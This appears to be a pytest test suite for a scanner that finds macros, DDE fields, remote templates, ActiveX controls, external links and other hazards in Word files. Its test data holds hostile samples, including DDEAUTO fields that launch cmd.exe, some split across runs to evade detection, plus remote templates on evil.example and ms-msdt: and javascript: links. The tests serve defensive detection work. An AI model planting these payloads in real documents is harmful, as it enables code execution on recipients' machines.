"""A Word file from outside that may do harm says so; one of ours is clean."""

from __future__ import annotations

from collections.abc import Callable
from xml.sax.saxutils import escape

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.findings import Finding, Severity, WordPlace
from generator.report.wording import word
from generator.word.writing import write
from tests.bids.sample import KINDS, written
from tests.reading import read
from tests.word.archives import changed, packed, parts
from tests.word.samples import RICH
from tests.word.standard import standard

LETTER = write(RICH, standard())
DOCUMENT = "word/document.xml"
RELATIONS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"
KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def said(data: bytes) -> list[tuple[str, Severity, str]]:
    """Return what is found in a file that is read all the same."""
    document, findings = read(data, "in.docx")
    assert document is not None
    assert all(finding.place == WordPlace("in.docx") and finding.hint for finding in findings)
    return [(finding.rule, finding.severity, word(finding.message, "en")) for finding in findings]


def rules(data: bytes) -> list[str]:
    """Return the rules of what is found, in order."""
    return [rule for rule, _, _ in said(data)]


def with_body(xml: str, data: bytes = LETTER) -> bytes:
    """Return the file with markup before all else in its body."""
    return changed(data, DOCUMENT, lambda old: old.replace("<w:body>", f"<w:body>{xml}", 1))


def with_relation(kind: str, target: str, *, external: bool = True, data: bytes = LETTER) -> bytes:
    """Return the file with one more relationship of its document."""
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="rId99" Type="{KIND}{kind}" Target="{target}"{mode}/></Relationships>'
    return changed(data, RELATIONS, lambda old: old.replace("</Relationships>", entry))


def with_part(name: str, content: bytes, kind: str = "", data: bytes = LETTER) -> bytes:
    """Return the file with one more part."""
    data = packed({**parts(data), name: content})
    if not kind:
        return data
    entry = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
    return changed(data, TYPES, lambda old: old.replace("</Types>", entry))


def runs(*texts: str, tag: str = "instrText") -> str:
    return "".join(f'<w:r><w:{tag} xml:space="preserve">{text}</w:{tag}></w:r>' for text in texts)


def mark(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def complex_field(code: str, result: str = "x") -> str:
    return mark("begin") + code + mark("separate") + runs(result, tag="t") + mark("end")


def with_field(code: str, data: bytes = LETTER) -> bytes:
    return with_body(f"<w:p>{complex_field(runs(escape(code)))}</w:p>", data)


@pytest.mark.parametrize("kind", KINDS)
def test_the_documents_of_the_sample_hold_no_danger(kind: str) -> None:
    assert said(written(kind)) == []


def test_a_document_of_every_block_holds_no_danger() -> None:
    assert said(LETTER) == []


def test_a_macro_project_is_an_error() -> None:
    data = with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0", "application/vnd.ms-office.vbaProject")
    assert said(data) == [("word-file-macro", Severity.ERROR, "the Word file carries macros: word/vbaProject.bin")]


def test_a_macro_project_under_another_name_is_found_by_its_relationship() -> None:
    data = with_part("word/media/image9.png", b"\xd0\xcf\x11\xe0")
    assert rules(with_relation("vbaProject", "media/image9.png", external=False, data=data)) == ["word-file-macro"]


def test_a_document_declared_to_carry_macros_is_found_without_any() -> None:
    data = changed(LETTER, TYPES, lambda xml: xml.replace(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "application/vnd.ms-word.document.macroEnabled.main+xml",
    ))  # fmt: skip
    assert said(data) == [("word-file-macro", Severity.ERROR, f"the Word file carries macros: {DOCUMENT}")]


@pytest.mark.parametrize(
    ("kind", "target", "severity", "text"),
    [
        ("attachedTemplate", "https://evil.example/t.dotm", Severity.ERROR,
         "{part} attaches a template that is not in the file: https://evil.example/t.dotm"),
        ("attachedTemplate", "file:///C:/Users/Li/公文.dotx", Severity.WARNING,
         "{part} attaches a template that is not in the file: file:///C:/Users/Li/公文.dotx"),
        ("image", "http://evil.example/a.png", Severity.ERROR,
         "{part} shows pictures that are not in the file: http://evil.example/a.png"),
        ("image", "file://///server/share/a.png", Severity.ERROR,
         "{part} shows pictures that are not in the file: file://///server/share/a.png"),
        ("image", r"\\server\share\a.png", Severity.ERROR,
         r"{part} shows pictures that are not in the file: \\server\share\a.png"),
        ("oleObject", "file:///D:/价格.xlsx!Sheet1", Severity.WARNING,
         "{part} loads what is not in the file: file:///D:/价格.xlsx!Sheet1"),
        ("frame", "mhtml:http://evil.example/x", Severity.ERROR,
         "{part} loads what is not in the file: mhtml:http://evil.example/x"),
    ],
)  # fmt: skip
def test_what_is_loaded_from_outside_is_named(kind: str, target: str, severity: Severity, text: str) -> None:
    assert said(with_relation(kind, target)) == [("word-file-external", severity, text.format(part=DOCUMENT))]


def test_an_address_is_outside_even_where_it_is_not_declared_so() -> None:
    assert rules(with_relation("image", "http://evil.example/a.png", external=False)) == ["word-file-external"]


def test_the_settings_that_attach_a_template_are_named() -> None:
    xml = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{KIND}attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    (finding,) = said(with_part("word/_rels/settings.xml.rels", xml.encode()))
    assert finding[2] == "word/settings.xml attaches a template that is not in the file: http://evil.example/t.dotm"


def test_many_links_of_one_part_are_one_finding_that_shows_the_first_five() -> None:
    data = LETTER
    for number in range(7):
        data = with_relation("image", f"http://evil.example/{number}", data=data)
    ((_, _, text),) = said(data)
    assert text.endswith(
        "/0, http://evil.example/1, http://evil.example/2, http://evil.example/3, http://evil.example/4, …"
    )


@pytest.mark.parametrize("target", ["http://a.example", "HTTPS://a.example", "mailto:a@b.example", "#_Toc1"])
def test_a_hyperlink_to_the_web_a_mail_or_the_file_itself_is_none(target: str) -> None:
    assert said(with_field(f' HYPERLINK "{target}" ', with_relation("hyperlink", target))) == []


@pytest.mark.parametrize("target", ["file:///C:/a.exe", "javascript:x", "ms-msdt:/id", r"\\server\a", "附件.pdf"])
def test_a_hyperlink_to_anything_else_is_a_warning(target: str) -> None:
    expected = f"{DOCUMENT} has hyperlinks to other things than web pages and mail addresses: {target}"
    assert said(with_relation("hyperlink", target)) == [("word-file-hyperlink", Severity.WARNING, expected)]
    code = rf' HYPERLINK \o "C:/tip" "{target}" \h'
    assert said(with_field(code)) == [("word-file-hyperlink", Severity.WARNING, expected)]


def test_a_hyperlink_to_a_bookmark_is_none() -> None:
    assert said(with_field(r' HYPERLINK \l "_Toc1" ')) == []


DDE = {
    "simple": '<w:fldSimple w:instr="  ddeauto c:\\cmd.exe "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
    "complex": complex_field(runs(" DDEAUTO c:\\cmd.exe ")),
    "split over runs": complex_field(runs("D", "DE", "AU", "TO", " c:\\cmd.exe")),
    "split by a comment": complex_field(runs("DD<!-- -->EAUTO c:\\cmd.exe")),
    "plain DDE": complex_field(runs("DDE excel a b")),
    "without a result": mark("begin") + runs("DDEAUTO c:\\cmd.exe") + mark("end"),
    "without an end": mark("begin") + runs("DDEAUTO c:\\cmd.exe"),
    "bare": runs("DDEAU", "TO c:\\cmd.exe"),
    "deleted": complex_field(runs("DDEAUTO c:\\cmd.exe", tag="delInstrText")),
    "written as text": mark("begin") + runs("DDEAUTO c:\\cmd.exe", tag="t") + mark("separate") + mark("end"),
    "nested": mark("begin") + runs("IF 1=1 ") + complex_field(runs("DDEAUTO c:\\cmd.exe")) + mark("end"),
    "with a nested keyword": (
        mark("begin") + complex_field(runs("QUOTE 68"), "DDEAUTO") + runs(" c:\\cmd.exe") + mark("end")
    ),
    "in the result of another": mark("begin") + runs("REF a") + mark("separate")
    + complex_field(runs("DDEAUTO c:\\cmd.exe")) + mark("end"),
}  # fmt: skip


@pytest.mark.parametrize("field", DDE.values(), ids=DDE.keys())
def test_a_dde_field_is_an_error_however_it_is_written(field: str) -> None:
    found = [entry for entry in said(with_body(f"<w:p>{field}</w:p>")) if entry[0] == "word-file-dde"]
    ((_, severity, text),) = found
    assert severity is Severity.ERROR
    assert text.startswith(f"{DOCUMENT} holds fields that start programs: ")
    assert "dde" in text.casefold()


def test_a_field_over_two_paragraphs_is_one() -> None:
    first, second = mark("begin") + runs("DDE"), runs("AUTO c:\\cmd.exe") + mark("end")
    assert rules(with_body(f"<w:p>{first}</w:p><w:p>{second}</w:p>")) == ["word-file-dde"]


def test_words_that_only_look_like_a_field_are_none() -> None:
    assert said(with_body(f"<w:p>{runs('{DDEAUTO c:/cmd.exe}', 'DDE', tag='t')}</w:p>")) == []
    assert said(with_body(f"<w:p>{complex_field(runs('PAGE'), 'DDEAUTO x')}</w:p>")) == []


@pytest.mark.parametrize(
    ("code", "severity"),
    [
        ('INCLUDEPICTURE "http://evil.example/a.png" \\d', Severity.ERROR),
        ("includetext \\\\\\\\server\\\\a.docx", Severity.ERROR),
        ('INCLUDETEXT "C:\\\\a b\\\\c.docx" \\* MERGEFORMAT', Severity.WARNING),
        ("LINK Excel.Sheet.12 附件.xlsx Sheet1!R1C1", Severity.WARNING),
    ],
)
def test_a_field_that_loads_is_as_bad_as_where_it_loads_from(code: str, severity: Severity) -> None:
    expected = f"{DOCUMENT} holds fields that load what is not in the file: {' '.join(code.split())}"
    assert said(with_field(code)) == [("word-file-external", severity, expected)]


@pytest.mark.parametrize("space", [W, STRICT])
@pytest.mark.parametrize("part", ["header9", "footer9", "footnotes", "endnotes", "comments", "glossary/document"])
def test_fields_are_found_in_every_part(part: str, space: str) -> None:
    xml = f'<w:x xmlns:w="{space}"><w:p>{complex_field(runs("DDE a b"))}</w:p></w:x>'
    ((rule, _, text),) = said(with_part(f"word/{part}.xml", xml.encode()))
    assert rule == "word-file-dde"
    assert text.startswith(f"word/{part}.xml ")


def test_a_part_that_is_xml_only_by_its_type_is_looked_at_too() -> None:
    xml = f'<a:hdr xmlns:a="{W}"><a:p><a:fldSimple a:instr="DDE a b"/></a:p></a:hdr>'
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
    assert rules(with_part("word/media/a.png", xml.encode("utf-16"), kind)) == ["word-file-dde"]


def test_a_picture_of_the_old_drawing_language_is_found_by_its_address() -> None:
    painted = '<v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="{}"/></v:shape>'
    picture = f"<w:p><w:r><w:pict>{painted}</w:pict></w:r></w:p>"
    expected = f"{DOCUMENT} shows pictures that are not in the file: http://evil.example/a.png"
    assert said(with_body(picture.format("http://evil.example/a.png")))[-1][1:] == (Severity.ERROR, expected)
    assert "word-file-external" not in rules(with_body(picture.format("wordml://03000001.png")))


@pytest.mark.parametrize(
    ("name", "rule", "severity"),
    [
        ("word/embeddings/oleObject1.bin", "word-file-embedded-object", Severity.WARNING),
        ("word/embeddings/价格.xlsx", "word-file-embedded-object", Severity.WARNING),
        ("word/activeX/activeX1.bin", "word-file-activex", Severity.ERROR),
    ],
)
def test_objects_of_other_programs_are_named(name: str, rule: str, severity: Severity) -> None:
    ((found, how_bad, text),) = said(with_part(name, b"\xd0\xcf\x11\xe0"))
    assert (found, how_bad) == (rule, severity)
    assert text.endswith(f": {name}")


@pytest.mark.parametrize(
    ("kind", "rule"),
    [
        ("oleObject", "word-file-embedded-object"),
        ("package", "word-file-embedded-object"),
        ("control", "word-file-activex"),
        ("aFChunk", "word-file-imported-document"),
    ],
)
def test_an_object_in_an_odd_place_is_found_by_its_relationship(kind: str, rule: str) -> None:
    data = with_part("odd/thing.dat", b"anything")
    assert rules(with_relation(kind, "../odd/Thing.dat", external=False, data=data)) == [rule]


CHANGES = (
    '<w:p><w:pPr><w:rPr><w:ins w:id="1" w:author="a"/></w:rPr></w:pPr>'
    '<w:ins w:id="2" w:author="a"><w:r><w:t>新</w:t></w:r></w:ins>'
    '<w:del w:id="3" w:author="a"><w:r><w:delText>旧</w:delText></w:r></w:del>'
    '<w:r><w:rPr><w:rPrChange w:id="4" w:author="a"><w:rPr/></w:rPrChange></w:rPr><w:t>x</w:t></w:r></w:p>'
)


def test_tracked_changes_are_counted() -> None:
    found = [entry for entry in said(with_body(CHANGES)) if entry[0] == "word-file-tracked-changes"]
    assert found == [("word-file-tracked-changes", Severity.WARNING, f"tracked changes in {DOCUMENT}: 4")]


def test_comments_are_counted_and_an_empty_list_of_them_is_none() -> None:
    one = '<w:comment w:id="{}" w:author="a"><w:p><w:r><w:t>价格要改</w:t></w:r></w:p></w:comment>'
    held = f'<w:comments xmlns:w="{W}">{one.format(0)}{one.format(1)}</w:comments>'
    assert said(with_part("word/comments.xml", held.encode())) == [
        ("word-file-comments", Severity.WARNING, "comments in word/comments.xml: 2")
    ]
    assert said(with_part("word/comments.xml", f'<w:comments xmlns:w="{W}"/>'.encode())) == []


def test_all_dangers_are_found_at_once() -> None:
    data = with_body(f"<w:p>{DDE['simple']}</w:p>", with_relation("image", "http://evil.example/a.png"))
    assert set(rules(with_part("word/vbaProject.bin", b"", data=data))) == {
        "word-file-macro", "word-file-external", "word-file-dde",
    }  # fmt: skip


def test_dangers_are_told_of_a_file_that_cannot_be_read() -> None:
    data = changed(with_part("word/vbaProject.bin", b""), DOCUMENT, lambda xml: xml.replace("</w:body>", ""))
    document, findings = read(data, "in.docx")
    assert document is None
    assert [finding.rule for finding in findings] == ["word-file-damaged", "word-file-macro"]


def test_a_broken_part_that_is_not_read_is_told_of() -> None:
    assert rules_of(read(with_part("word/footnotes.xml", b"<a>"), "in.docx")[1]) == ["word-file-damaged"]


@pytest.mark.parametrize(
    ("encoding", "declared"),
    [("utf-8", "UTF-8"), ("utf-16", "UTF-16"), ("utf-32-be", "UCS-4"), ("utf-7", "UTF-7")],
)
def test_a_document_type_is_refused_in_any_encoding(encoding: str, declared: str) -> None:
    xml = f'<?xml version="1.0" encoding="{declared}"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'
    _, findings = read(with_part("word/footnotes.xml", xml.encode(encoding)), "in.docx")
    assert rules_of(findings) == ["xml-declares-entities"]


def test_comments_in_the_markup_do_not_cut_a_text_short() -> None:
    cut, _ = read(with_body("<w:p><w:r><w:t>三<!-- -->年</w:t></w:r></w:p>"), "in.docx")
    whole, _ = read(with_body("<w:p><w:r><w:t>三年</w:t></w:r></w:p>"), "in.docx")
    assert cut == whole


def rules_of(findings: tuple[Finding, ...]) -> list[str]:
    return [finding.rule for finding in findings]


PIECES = (
    *DDE.values(), mark("end"), mark("separate"), mark("begin"), "<w:fldChar/>", "<w:instrText/>", "<w:fldSimple/>",
    '<w:fldSimple w:instr="&quot;"/>', runs("HYPERLINK"), runs("HYPERLINK \\o"), runs("\\"), CHANGES, "<?x y?>",
)  # fmt: skip
TARGETS = st.text(st.characters(blacklist_categories=["Cs", "Cc"], blacklist_characters='<>&"￾￿'), max_size=20)


@given(
    st.lists(st.sampled_from(PIECES), min_size=1, max_size=8),
    TARGETS,
    st.sampled_from(["hyperlink", "image", "", "package"]),
)
@settings(max_examples=80, deadline=None)
def test_nothing_that_a_file_may_hold_makes_looking_fail(pieces: list[str], target: str, kind: str) -> None:
    for external in (True, False):
        document, _ = read(with_body("".join(pieces), with_relation(kind, target, external=external)), "in.docx")
        assert document is not None


REPLACED: dict[str, Callable[[bytes], bytes]] = {
    TYPES: lambda junk: junk,
    RELATIONS: lambda junk: junk,
    "word/footnotes.xml": lambda junk: b"<a>" + junk + b"</a>",
    "word/embeddings/a.bin": lambda junk: junk,
}


@given(st.sampled_from(list(REPLACED)), st.binary(max_size=60))
@settings(max_examples=60, deadline=None)
def test_parts_of_arbitrary_bytes_are_read_or_refused(name: str, junk: bytes) -> None:
    document, findings = read(packed({**parts(LETTER), name: REPLACED[name](junk)}), "in.docx")
    assert document is not None or findings
